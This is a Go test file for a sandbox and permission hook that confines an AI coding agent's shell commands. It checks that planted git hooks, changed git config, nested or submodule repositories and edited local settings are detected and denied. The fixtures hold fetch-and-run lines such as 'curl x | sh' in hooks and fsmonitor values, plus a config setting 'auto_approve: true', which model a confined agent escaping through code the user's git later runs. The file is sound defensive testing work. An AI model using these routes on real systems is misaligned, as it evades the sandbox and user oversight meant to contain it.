package main

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/safezonehq/safezone/pipeline"
	"github.com/safezonehq/safezone/pipeline/pipelinetest"
)

// TestWatch: a watched path that appears after it was recorded denies
// every call of the project until it is trusted; setting its times back
// does not hide it (ctime); a corrupt list denies.
func TestWatch(t *testing.T) {
	sys, dir := testSystem(t)
	proj := dir + "/proj"
	local := proj + "/.safezone.local.yaml"
	if err := sys.CheckWatch(proj); err != nil {
		t.Fatalf("no list: %v", err)
	}
	if err := sys.RecordWatch(proj, []string{local, proj + "/.mcp.json"}); err != nil {
		t.Fatal(err)
	}
	if fi, err := os.Stat(sys.WatchPath(proj)); err != nil || !strings.HasPrefix(sys.WatchPath(proj), dir+"/home/.local/state/safezone/watch/") || fi.Mode().Perm() != 0o600 {
		t.Fatalf("watch list %s: %v %v", sys.WatchPath(proj), fi, err)
	}
	if err := sys.CheckWatch(proj); err != nil {
		t.Fatalf("nothing appeared: %v", err)
	}
	if err := os.WriteFile(local, []byte("version: 1\nmode: agi\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	old := time.Date(2020, 1, 1, 0, 0, 0, 0, time.UTC)
	if err := os.Chtimes(local, old, old); err != nil {
		t.Fatal(err)
	}
	err := sys.CheckWatch(proj)
	if err == nil || !strings.Contains(err.Error(), local+" appeared after a command ran confined") || !strings.Contains(err.Error(), "safezone trust "+local) {
		t.Fatalf("appeared: %v", err)
	}

	// The hook denies every call, with the reason.
	r := runHook(t, sys, strings.NewReader(pipelinetest.Input("Read", proj, map[string]any{"file_path": proj + "/README.md"})))
	if r.decision != "deny" || !strings.Contains(r.stdout, "appeared after a command ran confined") {
		t.Fatalf("hook: %+v", r)
	}

	// Recording again keeps the first time.
	if err := sys.RecordWatch(proj, []string{local}); err != nil {
		t.Fatal(err)
	}
	if sys.CheckWatch(proj) == nil {
		t.Fatal("a second record hid the file")
	}

	// safezone trust, from the project, by a relative path.
	sys.Getwd = func() (string, error) { return proj, nil }
	r = runCmd(sys, "trust", ".safezone.local.yaml")
	if r.code != 0 || !strings.Contains(r.stdout, "trusted "+local+" as it is now") {
		t.Fatalf("trust: %+v", r)
	}
	if err := sys.CheckWatch(proj); err != nil {
		t.Fatalf("after trust: %v", err)
	}
	r = runCmd(sys, "trust", ".mcp.json.not")
	if r.code != 1 || !strings.Contains(r.stderr, "is not watched") {
		t.Fatalf("trust of a path not watched: %+v", r)
	}

	// A trusted file that changes again (a program started before it
	// existed rewrites it) appears again.
	later := time.Now().Add(time.Hour)
	sys.Now = func() time.Time { return later.Add(-30 * time.Minute) }
	if err := sys.CheckWatch(proj); err != nil {
		t.Fatalf("trusted, unchanged: %v", err)
	}
	if err := os.Chmod(local, 0o600); err != nil { // changes ctime
		t.Fatal(err)
	}
	time.Sleep(10 * time.Millisecond)
	if err := os.WriteFile(local, []byte("version: 1\nmode: agi\nauto_approve: true\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	sys.Now = func() time.Time { return time.Now() }
	if sys.CheckWatch(proj) == nil {
		t.Fatal("a change after trust was not reported")
	}
	sys.Now = func() time.Time { return time.Now().Add(pipeline.TrustWindow + time.Hour) }
	if err := sys.CheckWatch(proj); err != nil {
		t.Fatalf("after the trust window: %v", err)
	}
	sys.Now = func() time.Time { return time.Date(2026, 11, 22, 12, 0, 0, 0, time.UTC) }
	if _, err := sys.Trust([]string{local}); err != nil {
		t.Fatal(err)
	}
	r = runCmd(sys, "trust")
	if r.code != 0 || !strings.Contains(r.stdout, proj+"/.mcp.json  missing") {
		t.Fatalf("trust list: %+v", r)
	}

	// A list the hook cannot read denies.
	if err := os.WriteFile(sys.WatchPath(proj), []byte("{"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := sys.CheckWatch(proj); err == nil || !strings.Contains(err.Error(), "unreadable") {
		t.Fatalf("corrupt list: %v", err)
	}
}

// runCmd runs a subcommand that prints no decision.
func runCmd(sys *pipeline.System, args ...string) runResult {
	var out, errb bytes.Buffer
	code := run(args, strings.NewReader(""), &out, &errb, sys)
	return runResult{code: code, stdout: out.String(), stderr: errb.String()}
}

// TestConfineWatchesMissing: confining a command records the read-only
// paths that do not exist, and the .git of a project that is no
// repository (not the paths inside it), and creates .claude and ~/.cache.
func TestConfineWatchesMissing(t *testing.T) {
	sys, dir := testSystem(t)
	if !sys.ConfineStatus().Confine() {
		t.Skip("the kernel cannot confine commands here")
	}
	proj := dir + "/proj"
	in := pipelinetest.Input("Bash", proj, map[string]any{"command": "python3 -c 'print(1)'"})
	in = strings.Replace(in, `"default"`, `"bypassPermissions"`, 1)
	r := runHook(t, sys, strings.NewReader(in))
	if r.decision != "allow" || !strings.Contains(r.stdout, "updatedInput") {
		t.Fatalf("not confined: %+v", r)
	}
	if fi, err := os.Stat(proj + "/.claude"); err != nil || !fi.IsDir() {
		t.Errorf(".claude was not made: %v", err)
	}
	// confine.write directories are made where their parent exists.
	if fi, err := os.Stat(dir + "/home/.cache"); err != nil || fi.Mode().Perm() != 0o700 {
		t.Errorf("~/.cache was not made for the tools' caches: %v", err)
	}
	// The home directory of this test lies in /tmp, where a confined
	// command may write: it could make a code cache there itself, outside
	// any private layer, so the hook makes the way to each (~/go/pkg/mod
	// too) and overlays it. (In a home no confined command may write, only
	// a missing last element is made: TestCodeCacheNotMadeOutside.)
	if fi, err := os.Stat(dir + "/home/go/pkg/mod"); err != nil || !fi.IsDir() || !strings.Contains(r.stdout, `home/go/pkg/mod\"`) {
		t.Errorf("~/go/pkg/mod, in a home a confined command may write, was not made and overlaid: %v", err)
	}
	w, err := sys.ReadWatch(sys.WatchPath(proj))
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{".safezone.yaml", ".safezone.local.yaml", ".mcp.json", "hooks/hooks.json", ".git"} {
		if _, ok := w.Paths[filepath.Join(proj, want)]; !ok {
			t.Errorf("%s is not watched: %v", want, w.Paths)
		}
	}
	for p := range w.Paths {
		if strings.Contains(p, "/.git/") || strings.HasSuffix(p, "/.claude") {
			t.Errorf("%s is watched", p)
		}
	}
}

// TestExplainChangesNothing: explain judges a command that would run
// confined without making .claude or ~/.cache or writing a watch list.
func TestExplainChangesNothing(t *testing.T) {
	sys, dir := testSystem(t)
	if !sys.ConfineStatus().Confine() {
		t.Skip("the kernel cannot confine commands here")
	}
	proj := dir + "/proj"
	in := strings.Replace(pipelinetest.Input("Bash", proj, map[string]any{"command": "python3 -c 'print(1)'"}), `"default"`, `"bypassPermissions"`, 1)
	var out, errb bytes.Buffer
	run([]string{"explain"}, strings.NewReader(in), &out, &errb, sys)
	if !strings.Contains(out.String(), "confine") {
		t.Fatalf("explain: %s %s", out.String(), errb.String())
	}
	// It says what it would watch: the project is no repository.
	for _, want := range []string{"watch    " + proj + "/.git: a repository it could make there with a hook", "watch    " + proj + "/.mcp.json: missing"} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("explain does not say %q:\n%s", want, out.String())
		}
	}
	for _, p := range []string{proj + "/.claude", dir + "/home/.cache", sys.WatchPath(proj)} {
		if _, err := os.Stat(p); err == nil {
			t.Errorf("explain made %s", p)
		}
	}
}

// TestWatchResolvedProject: a project reached through a symlink shares the
// watch list of its real path.
func TestWatchResolvedProject(t *testing.T) {
	sys, dir := testSystem(t)
	if err := os.Symlink(dir+"/proj", dir+"/link"); err != nil {
		t.Fatal(err)
	}
	if sys.WatchPath(dir+"/link") != sys.WatchPath(dir+"/proj") {
		t.Fatal("two watch lists for one project")
	}
}

// TestStateDirInsideProject: when the project holds the state directory
// (the project is the home directory), a confined command may not change
// it: it is read-only, or the command is not confined.
func TestStateDirInsideProject(t *testing.T) {
	sys, dir := testSystem(t)
	st := sys.ConfineStatus()
	if !st.Confine() {
		t.Skip("the kernel cannot confine commands here")
	}
	home := dir + "/home"
	sys.Getenv = pipelinetest.Isolated(dir, map[string]string{"HOME": home, "CLAUDE_PROJECT_DIR": home})
	in := strings.Replace(pipelinetest.Input("Bash", home, map[string]any{"command": "python3 -c 'print(1)'"}), `"default"`, `"bypassPermissions"`, 1)
	r := runHook(t, sys, strings.NewReader(in))
	if st.ReadOnly != nil {
		if strings.Contains(r.stdout, "updatedInput") {
			t.Fatalf("confined without read-only paths: %s", r.stdout)
		}
		return
	}
	if !strings.Contains(r.stdout, "cannot change") || !strings.Contains(r.stdout, "~/.local/state/safezone") {
		t.Fatalf("the state directory is not read-only: %s", r.stdout)
	}
}

// TestCodeCacheNotMadeOutside: in a home no confined command may write
// (here one outside /tmp), a line that runs no tool of theirs makes no code
// cache whose parent is missing (~/go, ~/.m2, ~/.gradle stay absent): the
// command could not make them either.
func TestCodeCacheNotMadeOutside(t *testing.T) {
	base, err := os.MkdirTemp(".", ".home-test-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(base) })
	dir, err := filepath.Abs(base)
	if err != nil {
		t.Fatal(err)
	}
	sys, dir := testSystemAt(t, dir)
	if !sys.ConfineStatus().Confine() {
		t.Skip("the kernel cannot confine commands here")
	}
	proj := dir + "/proj"
	in := strings.Replace(pipelinetest.Input("Bash", proj, map[string]any{"command": "python3 -c 'print(1)'"}), `"default"`, `"bypassPermissions"`, 1)
	if r := runHook(t, sys, strings.NewReader(in)); r.decision != "allow" || !strings.Contains(r.stdout, "updatedInput") {
		t.Fatalf("not confined: %+v", r)
	}
	for _, d := range []string{"go", ".m2", ".gradle", ".cargo"} {
		if _, err := os.Stat(filepath.Join(dir, "home", d)); err == nil {
			t.Errorf("~/%s was made for a line that runs no tool of its", d)
		}
	}
}

// TestCodeCachesOverlaid: a confined command sees the npx cache with a
// private layer on top, although ~/.npm is writable: what it installs
// there is its own.
func TestCodeCachesOverlaid(t *testing.T) {
	sys, dir := testSystem(t)
	if !sys.ConfineStatus().Confine() {
		t.Skip("the kernel cannot confine commands here")
	}
	if err := os.MkdirAll(dir+"/home/.npm/_npx", 0o755); err != nil {
		t.Fatal(err)
	}
	proj := dir + "/proj"
	in := strings.Replace(pipelinetest.Input("Bash", proj, map[string]any{"command": "python3 -c 'print(1)'"}), `"default"`, `"bypassPermissions"`, 1)
	r := runHook(t, sys, strings.NewReader(in))
	if sys.ConfineStatus().ReadOnly == nil && (!strings.Contains(r.stdout, "are its own (gone when it ends)") || !strings.Contains(r.stdout, `home/.npm/_npx\"`) || !strings.Contains(r.stdout, `\"overlay\":[`)) {
		t.Fatalf("~/.npm/_npx is not overlaid: %s", r.stdout)
	}
}

// TestWatchRepo: the .git of a project that was no repository when a
// command ran confined counts by what git would run from it: a repository
// as git init makes it, with user.email set and a commit, is ordinary
// work; a hook, core.hooksPath or a changed hook after trust denies every
// call, naming what to look at.
func TestWatchRepo(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git")
	}
	sys, dir := testSystem(t)
	proj := dir + "/proj"
	g := proj + "/.git"
	if err := sys.RecordWatch(proj, []string{g}); err != nil {
		t.Fatal(err)
	}
	git := func(args ...string) {
		t.Helper()
		mustGit(t, dir+"/home", proj, args...)
	}
	ok := func(what string) {
		t.Helper()
		if err := sys.CheckWatch(proj); err != nil {
			t.Fatalf("%s: %v", what, err)
		}
	}
	denied := func(what string, want ...string) {
		t.Helper()
		err := sys.CheckWatch(proj)
		if err == nil {
			t.Fatalf("%s: not reported", what)
		}
		for _, w := range append(want, "the git repository "+g, "safezone trust "+g) {
			if !strings.Contains(err.Error(), w) {
				t.Fatalf("%s: %v\nwant %q in it", what, err, w)
			}
		}
	}
	ok("no repository")
	git("init", "-q")
	git("config", "user.email", "agent@example.com")
	git("commit", "-q", "--allow-empty", "-m", "x")
	ok("git init, user.email, a commit")
	if r := runCmd(sys, "trust"); !strings.Contains(r.stdout, g+"  present: a git repository holding nothing git would run") {
		t.Fatalf("trust list: %+v", r)
	}

	hook := g + "/hooks/pre-commit"
	if err := os.WriteFile(hook, []byte("#!/bin/sh\ntouch ../pwned\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	denied("a pre-commit hook", "hooks/pre-commit")
	r := runHook(t, sys, strings.NewReader(pipelinetest.Input("Bash", proj, map[string]any{"command": "git commit --allow-empty -m y"})))
	if r.decision != "deny" || !strings.Contains(r.stdout, "hooks/pre-commit") {
		t.Fatalf("hook: %+v", r)
	}
	if r := runCmd(sys, "trust"); !strings.Contains(r.stdout, g+"  APPEARED, a git repository holding what git would run: hooks/pre-commit") {
		t.Fatalf("trust list: %+v", r)
	}

	// Trusted as it is: git commands that change .git itself do not
	// report it again, a rewritten hook or a new key does.
	sys.Getwd = func() (string, error) { return proj, nil }
	if r := runCmd(sys, "trust", ".git"); r.code != 0 || !strings.Contains(r.stdout, "trusted "+g) {
		t.Fatalf("trust: %+v", r)
	}
	sys.Now = func() time.Time { return time.Now() }
	git("config", "user.name", "Agent")
	git("commit", "-q", "--allow-empty", "--no-verify", "-m", "z")
	ok("after trust, a commit")
	time.Sleep(20 * time.Millisecond)
	if err := os.WriteFile(hook, []byte("#!/bin/sh\ncurl x | sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	denied("the trusted hook rewritten", "hooks/pre-commit")
	if r := runCmd(sys, "trust", ".git"); r.code != 0 {
		t.Fatalf("trust: %+v", r)
	}
	ok("trusted again")
	git("config", "core.hooksPath", ".husky/_")
	denied("core.hooksPath set", "config: core.hookspath=")
}

// TestWatchNestedRepo: a repository made below the project after a command
// ran confined there (git init sub, by that command or one it left
// running) counts by what git would run from it, from the next shell
// command that runs outside the sandbox (a git commit the user would
// approve) or the next call after a confined one; those that were there
// before are the user's.
func TestWatchNestedRepo(t *testing.T) {
	sys, dir := gitConfineSystem(t)
	proj := dir + "/proj"
	git := func(in string, args ...string) {
		t.Helper()
		mustGit(t, dir+"/home", in, args...)
	}
	plant := func(repo string) {
		t.Helper()
		if err := os.WriteFile(repo+"/.git/hooks/pre-commit", []byte("#!/bin/sh\ntouch ../pwned\n"), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	call := func(mode, command string) runResult {
		t.Helper()
		in := pipelinetest.Input("Bash", proj, map[string]any{"command": command})
		return runHook(t, sys, strings.NewReader(strings.Replace(in, `"default"`, `"`+mode+`"`, 1)))
	}
	// The user's own nested repository, with a hook, before any command
	// ran confined.
	os.MkdirAll(proj+"/theirs", 0o755)
	git(proj+"/theirs", "init", "-q")
	plant(proj + "/theirs")
	if r := call("bypassPermissions", "python3 -c 'print(1)'"); r.decision != "allow" || !strings.Contains(r.stdout, "updatedInput") {
		t.Fatalf("not confined: %+v", r)
	}
	if r := call("default", "git -C theirs commit --allow-empty -m x"); r.decision == "deny" {
		t.Fatalf("the user's repository: %+v", r)
	}

	// Made since: one as git init leaves it is ordinary work.
	os.MkdirAll(proj+"/plain", 0o755)
	git(proj+"/plain", "init", "-q")
	if r := call("default", "git -C plain commit --allow-empty -m x"); r.decision == "deny" {
		t.Fatalf("a plain nested repository: %+v", r)
	}
	// A linked worktree of it (a .git file): git worktree add is ordinary
	// work too.
	git(proj+"/plain", "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-q", "--allow-empty", "-m", "x")
	git(proj+"/plain", "worktree", "add", "-q", "../wt")
	if r := call("default", "git -C wt status"); r.decision == "deny" {
		t.Fatalf("a linked worktree: %+v", r)
	}
	// One holding a hook denies the shell command that would run it.
	os.MkdirAll(proj+"/sub", 0o755)
	git(proj+"/sub", "init", "-q")
	plant(proj + "/sub")
	r := call("default", "git -C sub commit --allow-empty -m x")
	if r.decision != "deny" || !strings.Contains(r.stdout, "the git repository "+proj+"/sub/.git") || !strings.Contains(r.stdout, "hooks/pre-commit") {
		t.Fatalf("a planted hook: %+v", r)
	}
	// And every call after it, a file tool's too.
	r = runHook(t, sys, strings.NewReader(pipelinetest.Input("Read", proj, map[string]any{"file_path": proj + "/README.md"})))
	if r.decision != "deny" || !strings.Contains(r.stdout, proj+"/sub/.git") {
		t.Fatalf("the next call: %+v", r)
	}

	// A confined command notes one too: the call after it is denied.
	if out := runCmd(sys, "trust", proj+"/sub/.git"); out.code != 0 {
		t.Fatalf("trust: %+v", out)
	}
	os.MkdirAll(proj+"/sub2", 0o755)
	git(proj+"/sub2", "init", "-q")
	plant(proj + "/sub2")
	if r := call("bypassPermissions", "python3 -c 'print(2)'"); r.decision != "allow" {
		t.Fatalf("confined: %+v", r)
	}
	r = runHook(t, sys, strings.NewReader(pipelinetest.Input("Read", proj, map[string]any{"file_path": proj + "/README.md"})))
	if r.decision != "deny" || !strings.Contains(r.stdout, proj+"/sub2/.git") {
		t.Fatalf("after a confined call: %+v", r)
	}
}

// TestWatchNestedRepoMovedIn: a repository made with a hook where the
// search does not look (node_modules, a program-writable tree) and moved
// below the project once the notes have moved past its making counts like
// one made there: renaming its directory leaves its .git's change time as
// it was.
func TestWatchNestedRepoMovedIn(t *testing.T) {
	sys, dir := gitConfineSystem(t)
	proj := dir + "/proj"
	now := time.Now()
	sys.Now = func() time.Time { return now }
	git := func(in string, args ...string) {
		t.Helper()
		mustGit(t, dir+"/home", in, args...)
	}
	confined := func(command string) {
		t.Helper()
		confinedIn(t, sys, proj, command)
	}
	confined("python3 -c 'print(1)'")
	// What a confined program does: a repository with a hook in
	// node_modules, then an ordinary one that the next search notes.
	os.MkdirAll(proj+"/node_modules/x", 0o755)
	git(proj+"/node_modules/x", "init", "-q")
	if err := os.WriteFile(proj+"/node_modules/x/.git/hooks/pre-commit", []byte("#!/bin/sh\ntouch ../pwned\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	now = now.Add(time.Minute)
	os.MkdirAll(proj+"/plain", 0o755)
	git(proj+"/plain", "init", "-q")
	confined("python3 -c 'print(2)'")
	now = now.Add(time.Minute)
	if err := os.Rename(proj+"/node_modules/x", proj+"/x"); err != nil {
		t.Fatal(err)
	}
	confined("python3 -c 'print(3)'")
	r := runHook(t, sys, strings.NewReader(pipelinetest.Input("Read", proj, map[string]any{"file_path": proj + "/README.md"})))
	if r.decision != "deny" || !strings.Contains(r.stdout, proj+"/x/.git") || !strings.Contains(r.stdout, "hooks/pre-commit") {
		t.Fatalf("a repository with a hook moved in: %+v", r)
	}
}

// TestWatchRepoItself: a directory of the work tree made a repository
// itself (HEAD, objects, refs, a config naming the work tree, a hook)
// is what git run in it takes, before the .git above: the user's git
// commit in src runs the hook. It is found and judged like a nested .git;
// so is the project root made one where it has no .git.
func TestWatchRepoItself(t *testing.T) {
	sys, dir := gitConfineSystem(t)
	proj := dir + "/proj"
	git := func(in string, args ...string) error {
		_, err := gitAs(dir+"/home", in, args...)
		return err
	}
	// makeRepoAt makes d a repository itself whose work tree is wt, with a
	// pre-commit hook that makes marker.
	makeRepoAt := func(d, wt, marker string) {
		t.Helper()
		for _, sub := range []string{"objects", "refs/heads", "hooks"} {
			os.MkdirAll(d+"/"+sub, 0o755)
		}
		os.WriteFile(d+"/HEAD", []byte("ref: refs/heads/main\n"), 0o644)
		os.WriteFile(d+"/config", []byte("[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = "+wt+"\n"), 0o644)
		os.WriteFile(d+"/hooks/pre-commit", []byte("#!/bin/sh\ntouch "+marker+"\n"), 0o755)
	}
	confined := func(command string) {
		t.Helper()
		confinedIn(t, sys, proj, command)
	}
	read := func() runResult {
		t.Helper()
		return runHook(t, sys, strings.NewReader(pipelinetest.Input("Read", proj, map[string]any{"file_path": proj + "/README.md"})))
	}

	// The project root, no repository: made one itself.
	confined("python3 -c 'print(1)'")
	makeRepoAt(proj, proj, dir+"/ran-root")
	r := read()
	if r.decision != "deny" || !strings.Contains(r.stdout, proj+" is a repository itself") || !strings.Contains(r.stdout, "hooks/pre-commit") {
		t.Fatalf("the project root made a repository: %+v", r)
	}
	if err := git(proj, "commit", "-q", "--allow-empty", "-m", "x"); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(dir + "/ran-root"); err != nil {
		t.Fatalf("git did not run the hook of the project root made a repository: the case is no attack")
	}
	for _, n := range []string{"HEAD", "objects", "refs", "hooks", "config", "index", "logs", "info", "description", "branches", "COMMIT_EDITMSG"} {
		os.RemoveAll(proj + "/" + n)
	}
	if r := read(); r.decision == "deny" {
		t.Fatalf("removed: %+v", r)
	}

	// A repository project: src made one itself.
	if err := git(proj, "init", "-q"); err != nil {
		t.Fatal(err)
	}
	if out := runCmd(sys, "trust", proj+"/.git"); out.code != 0 {
		t.Fatalf("trust: %+v", out)
	}
	os.MkdirAll(proj+"/src", 0o755)
	confined("python3 -c 'print(2)'")
	makeRepoAt(proj+"/src", proj, dir+"/ran-src")
	confined("python3 -c 'print(3)'")
	r = read()
	if r.decision != "deny" || !strings.Contains(r.stdout, proj+"/src is a repository itself") || !strings.Contains(r.stdout, "hooks/pre-commit") {
		t.Fatalf("src made a repository: %+v", r)
	}
	if err := git(proj+"/src", "commit", "-q", "--allow-empty", "-m", "x"); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(dir + "/ran-src"); err != nil {
		t.Fatalf("git in src did not run its hook: the case is no attack")
	}
	// Trusted by the name the reason gives.
	if out := runCmd(sys, "trust", proj+"/src/.git"); out.code != 0 {
		t.Fatalf("trust: %+v", out)
	}
	if r := read(); r.decision == "deny" {
		t.Fatalf("trusted: %+v", r)
	}
}

// TestWatchTrustedRewritten: a trusted repository is reported again when
// what it runs changes, wherever git reads it from: a hook in the
// directory a .git file names rewritten in place (same size, its
// modification time put back), a configuration value changed past what
// the reason shows of it.
func TestWatchTrustedRewritten(t *testing.T) {
	sys, dir := testSystem(t)
	sys.Now = time.Now
	sys.Getwd = func() (string, error) { return dir + "/proj", nil }
	proj := dir + "/proj"
	g := proj + "/.git"
	repo := proj + "/.repo"
	for _, d := range []string{"hooks", "objects", "refs"} {
		os.MkdirAll(repo+"/"+d, 0o755)
	}
	os.WriteFile(repo+"/HEAD", []byte("ref: refs/heads/main\n"), 0o644)
	hook := repo + "/hooks/pre-commit"
	os.WriteFile(hook, []byte("#!/bin/sh\necho good\n"), 0o755)
	long := strings.Repeat("x", 100)
	os.WriteFile(repo+"/config", []byte("[core]\n\tfsmonitor = ./fsmon "+long+"\n"), 0o644)
	os.WriteFile(g, []byte("gitdir: .repo\n"), 0o644)
	if err := sys.RecordWatch(proj, []string{g}); err != nil {
		t.Fatal(err)
	}
	if err := sys.CheckWatch(proj); err == nil || !strings.Contains(err.Error(), "hooks/pre-commit") {
		t.Fatalf("not reported: %v", err)
	}
	trust := func() {
		t.Helper()
		if r := runCmd(sys, "trust", ".git"); r.code != 0 {
			t.Fatalf("trust: %+v", r)
		}
		if err := sys.CheckWatch(proj); err != nil {
			t.Fatalf("trusted: %v", err)
		}
	}
	trust()
	time.Sleep(20 * time.Millisecond)
	fi, _ := os.Stat(hook)
	os.WriteFile(hook, []byte("#!/bin/sh\ncurl x|sh\n"), 0o755)
	os.Chtimes(hook, fi.ModTime(), fi.ModTime())
	if err := sys.CheckWatch(proj); err == nil || !strings.Contains(err.Error(), "hooks/pre-commit") {
		t.Fatalf("the hook of the trusted repository rewritten in place: %v", err)
	}
	trust()
	time.Sleep(20 * time.Millisecond)
	os.WriteFile(repo+"/config", []byte("[core]\n\tfsmonitor = ./fsmon "+long[:90]+"; curl x|sh\n"), 0o644)
	if err := sys.CheckWatch(proj); err == nil || !strings.Contains(err.Error(), "core.fsmonitor") {
		t.Fatalf("the configuration of the trusted repository changed past what its item shows: %v", err)
	}
}

// TestWatchNewSubmoduleRepo: a submodule repository a confined command
// makes in the project's own .git (.git/modules/NAME: .git is program
// writable, only the modules there before are read-only), with a hook,
// and a gitlink plus .gitmodules naming it, is what the user's git
// submodule update --init checks out and runs the hook of: it is watched
// from the next confined command's search. git submodule add by the agent
// stays ordinary work.
func TestWatchNewSubmoduleRepo(t *testing.T) {
	sys, dir := gitConfineSystem(t)
	proj := dir + "/proj"
	git := func(in string, args ...string) string {
		t.Helper()
		return mustGit(t, dir+"/home", in, args...)
	}
	confined := func(command string) {
		t.Helper()
		confinedIn(t, sys, proj, command)
	}
	read := func() runResult {
		t.Helper()
		return runHook(t, sys, strings.NewReader(pipelinetest.Input("Read", proj, map[string]any{"file_path": proj + "/README.md"})))
	}
	up := dir + "/up"
	os.MkdirAll(up, 0o755)
	git(up, "init", "-q")
	git(up, "commit", "-q", "--allow-empty", "-m", "up")
	git(proj, "init", "-q")
	git(proj, "commit", "-q", "--allow-empty", "-m", "init")
	confined("python3 -c 'print(1)'")

	// Ordinary: git submodule add.
	git(proj, "-c", "protocol.file.allow=always", "submodule", "add", "-q", up, "vendor/up")
	confined("python3 -c 'print(2)'")
	if r := read(); r.decision == "deny" {
		t.Fatalf("git submodule add: %+v", r)
	}

	// What a confined program does: a submodule repository in .git/modules
	// with a hook, and the gitlink and .gitmodules that name it.
	evil := proj + "/.git/modules/evil"
	git(dir, "clone", "-q", "--bare", up, evil)
	sha := git(evil, "rev-parse", "HEAD")
	git(evil, "config", "core.bare", "false")
	git(evil, "config", "core.worktree", "../../../vendor/evil")
	os.WriteFile(evil+"/hooks/post-checkout", []byte("#!/bin/sh\ntouch "+dir+"/ran\n"), 0o755)
	f, _ := os.OpenFile(proj+"/.gitmodules", os.O_APPEND|os.O_WRONLY, 0)
	f.WriteString("[submodule \"evil\"]\n\tpath = vendor/evil\n\turl = https://example.invalid/evil.git\n")
	f.Close()
	git(proj, "update-index", "--add", "--cacheinfo", "160000,"+sha+",vendor/evil")
	git(proj, "add", ".gitmodules")
	git(proj, "commit", "-q", "-m", "vendor")

	confined("python3 -c 'print(3)'")
	r := read()
	if r.decision != "deny" || !strings.Contains(r.stdout, evil) || !strings.Contains(r.stdout, "hooks/post-checkout") {
		t.Fatalf("a submodule repository made with a hook: %+v", r)
	}
	git(proj, "submodule", "update", "--init", "-q")
	if _, err := os.Stat(dir + "/ran"); err != nil {
		t.Fatalf("git submodule update did not run the planted hook: the case is no attack")
	}
	if out := runCmd(sys, "trust", evil); out.code != 0 {
		t.Fatalf("trust: %+v", out)
	}
	if r := read(); r.decision == "deny" {
		t.Fatalf("trusted: %+v", r)
	}
	// A file in a submodule's repository that is watched while missing
	// (its commondir) is no repository: it counts once it appears.
	cd := proj + "/.git/modules/vendor/up/commondir"
	if err := sys.RecordWatch(proj, []string{cd}); err != nil {
		t.Fatal(err)
	}
	os.WriteFile(cd, []byte("../../../../elsewhere\n"), 0o644)
	if r := read(); r.decision != "deny" || !strings.Contains(r.stdout, cd+" appeared") {
		t.Fatalf("a watched commondir made: %+v", r)
	}
}

// gitAs runs git in dir as the user whose home is home would (no system
// configuration, a fixed author and committer) and returns its output,
// trimmed; the error names the command and holds the output.
func gitAs(home, dir string, args ...string) (string, error) {
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "HOME="+home, "GIT_CONFIG_NOSYSTEM=1", "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@t", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@t")
	out, err := cmd.CombinedOutput()
	if err != nil {
		return "", fmt.Errorf("git %v in %s: %v\n%s", args, dir, err, out)
	}
	return strings.TrimSpace(string(out)), nil
}

// mustGit is gitAs, failing the test on an error.
func mustGit(t *testing.T, home, dir string, args ...string) string {
	t.Helper()
	out, err := gitAs(home, dir, args...)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// confinedIn runs the hook on the shell command in proj, in
// bypassPermissions, and fails the test unless it runs confined.
func confinedIn(t *testing.T, sys *pipeline.System, proj, command string) {
	t.Helper()
	in := strings.Replace(pipelinetest.Input("Bash", proj, map[string]any{"command": command}), `"default"`, `"bypassPermissions"`, 1)
	if r := runHook(t, sys, strings.NewReader(in)); r.decision != "allow" || !strings.Contains(r.stdout, "updatedInput") {
		t.Fatalf("not confined: %+v", r)
	}
}

// gitConfineSystem is testSystem for a test that runs git and confines
// commands: it skips where either is missing.
func gitConfineSystem(t *testing.T) (*pipeline.System, string) {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git")
	}
	sys, dir := testSystem(t)
	if !sys.ConfineStatus().Confine() {
		t.Skip("the kernel cannot confine commands here")
	}
	return sys, dir
}
